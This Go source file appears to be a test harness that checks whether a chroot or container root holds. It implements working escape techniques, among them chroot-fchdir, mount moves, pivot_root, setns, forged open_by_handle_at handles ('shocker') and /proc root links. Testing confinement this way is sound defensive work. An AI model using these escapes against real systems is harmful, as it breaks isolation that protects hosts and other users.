// Attempts to leave a root directory. Each runs in a new process, and succeeds if a file of the
// machine's own tree is visible afterwards.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// escapes are the attempts. Each calls look wherever it gets, and returns the first error on its
// way.
var escapes = map[string]func(look func()) error{
	"dotdot":    func(look func()) error { look(); return unix.EXDEV },
	"chroot":    byChroot,
	"umount":    byUmount,
	"move":      byMove,
	"pivot":     byPivot,
	"setns":     bySetns,
	"handle":    byHandle,
	"proc-root": byProc,
	"all-mounts": func(look func()) error {
		b, _ := os.ReadFile("/proc/self/mountinfo")
		lines := strings.Split(strings.TrimSpace(string(b)), "\n")
		var first error
		for _, l := range slices.Backward(lines) {
			first = keep(first, unix.Unmount(strings.Fields(l)[4], unix.MNT_DETACH))
			look()
		}
		return first
	},
}

// keep returns the first of two errors.
func keep(first, err error) error {
	if first == nil {
		return err
	}
	return first
}

// escape ATTEMPT FILE makes an attempt. "userns-ATTEMPT" makes it in a new user and mount
// namespace, with every capability.
func escape(args []string) {
	name, file := args[0], args[1]
	if rest, ok := strings.CutPrefix(name, "userns-"); ok {
		c := exec.Command("/proc/self/exe", "escape", rest, file)
		ids := []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}
		c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS, UidMappings: ids, GidMappings: ids}
		c.Stdout, c.Stderr = os.Stdout, os.Stderr
		if err := c.Start(); err != nil {
			fmt.Println("held: no user namespace:", err)
			return
		}
		c.Wait()
		return
	}
	out := ""
	err := escapes[name](func() {
		for _, from := range []string{"/", "./"} {
			up := ""
			for range 12 {
				if exists := unix.Access(from+up+file[1:], unix.F_OK); exists == nil && out == "" {
					out = from + up + file[1:]
				}
				up += "../"
			}
		}
	})
	if out != "" {
		fmt.Println("escaped:", out)
		return
	}
	fmt.Println("held:", err)
}

func byChroot(look func()) error {
	up, err := unix.Open("/", unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	if err := os.MkdirAll("/tmp/jail", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		return err
	}
	unix.Fchdir(up)
	for range 64 {
		unix.Chdir("..")
	}
	look()
	err = unix.Chroot(".")
	look()
	return keep(err, unix.EXDEV)
}

func byUmount(look func()) error {
	var first error
	for _, dir := range []string{"/", ".", "/proc", "/.."} {
		first = keep(first, unix.Unmount(dir, unix.MNT_DETACH))
		look()
		unix.Chdir("/..")
		look()
	}
	return first
}

func byMove(look func()) error {
	os.MkdirAll("/tmp/moved", 0o755)
	first := unix.Mount("/", "/tmp/moved", "", unix.MS_MOVE, "")
	look()
	first = keep(first, unix.Mount("none", "/tmp/moved", "tmpfs", 0, ""))
	unix.Chdir("/tmp/moved")
	first = keep(first, unix.Mount(".", "/", "", unix.MS_MOVE, ""))
	look()
	first = keep(first, unix.Unmount("/", unix.MNT_DETACH))
	unix.Chdir("/")
	look()
	unix.Chroot(".")
	look()
	return keep(first, unix.EXDEV)
}

func byPivot(look func()) error {
	first := unix.PivotRoot(".", ".")
	look()
	unix.Unmount(".", unix.MNT_DETACH)
	look()
	os.MkdirAll("/tmp/new", 0o755)
	first = keep(first, unix.Mount("none", "/tmp/new", "tmpfs", 0, ""))
	os.MkdirAll("/tmp/new/old", 0o755)
	first = keep(first, unix.PivotRoot("/tmp/new", "/tmp/new/old"))
	look()
	unix.Chdir("/old")
	look()
	first = keep(first, unix.Unmount("/old", unix.MNT_DETACH))
	look()
	return keep(first, unix.EXDEV)
}

func bySetns(look func()) error {
	files, _ := filepath.Glob("/proc/[0-9]*/ns/mnt")
	var first error
	for _, f := range files {
		fd, err := unix.Open(f, unix.O_RDONLY, 0)
		if err == nil {
			err = unix.Setns(fd, unix.CLONE_NEWNS)
			look()
		}
		first = keep(first, err)
	}
	return keep(first, unix.EXDEV)
}

// byHandle opens the root of the file system of `/` by its handle: open_by_handle_at(2), "shocker".
func byHandle(look func()) error {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		return err
	}
	at, err := unix.Open("/", unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(at, h, unix.O_DIRECTORY)
	if err != nil {
		return err
	}
	unix.Fchdir(fd)
	look()
	for ino := uint32(1); ino < 64; ino++ { // the top directory's inode number is small
		b := h.Bytes()
		for i := 0; i+4 <= len(b); i += 4 {
			forged := slices.Clone(b)
			*(*uint32)(unsafe.Pointer(&forged[i])) = ino
			if fd, err := unix.OpenByHandleAt(at, unix.NewFileHandle(h.Type(), forged), unix.O_DIRECTORY); err == nil {
				unix.Fchdir(fd)
				look()
				unix.Close(fd)
			}
		}
	}
	return unix.EXDEV
}

func byProc(look func()) error {
	links, _ := filepath.Glob("/proc/[0-9]*/root")
	cwds, _ := filepath.Glob("/proc/[0-9]*/cwd")
	fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	var first error
	for _, l := range slices.Concat(links, cwds, fds) {
		err := unix.Chdir(l)
		look()
		if err != unix.ENOTDIR {
			first = keep(first, err)
		}
	}
	return keep(first, unix.EXDEV)
}
